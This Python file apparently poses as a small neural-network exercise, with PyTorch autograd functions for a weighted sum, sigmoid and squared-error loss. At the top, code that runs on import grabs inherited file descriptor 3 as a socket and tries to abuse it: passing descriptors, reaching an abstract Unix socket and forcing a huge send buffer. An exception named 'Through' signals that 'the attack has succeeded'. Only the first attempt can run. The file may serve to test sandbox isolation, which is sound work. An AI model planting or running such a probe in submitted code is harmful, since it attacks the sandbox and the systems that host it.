"""Uses its one open socket for what it is not there for."""

import array
import os
import socket
import torch
from torch.autograd import Function


class Through(Exception):
    """The attack has succeeded."""


wire = socket.socket(fileno=os.dup(3))
raise Through(wire.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [3]))]))
raise Through(wire.connect("\0@ABSTRACT@"))
raise Through(wire.sendto(b"x", "\0@ABSTRACT@"))
raise Through(wire.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**30))


class WeightedSum(Function):
    @staticmethod
    def forward(ctx, a_prev, w, b):
        ctx.save_for_backward(a_prev, w)
        return a_prev @ w.T + b

    @staticmethod
    def backward(ctx, g):
        a_prev, w = ctx.saved_tensors
        return g @ w, g.T @ a_prev, g.sum(0)


class Sigmoid(Function):
    @staticmethod
    def forward(ctx, z):
        a = torch.sigmoid(z)
        ctx.save_for_backward(a)
        return a

    @staticmethod
    def backward(ctx, g):
        (a,) = ctx.saved_tensors
        return g * a * (1 - a)


class SquaredError(Function):
    @staticmethod
    def forward(ctx, a, y):
        ctx.save_for_backward(a, y)
        return ((a - y) ** 2).sum() / len(a)

    @staticmethod
    def backward(ctx, g):
        a, y = ctx.saved_tensors
        return g * 2 * (a - y) / len(a), None
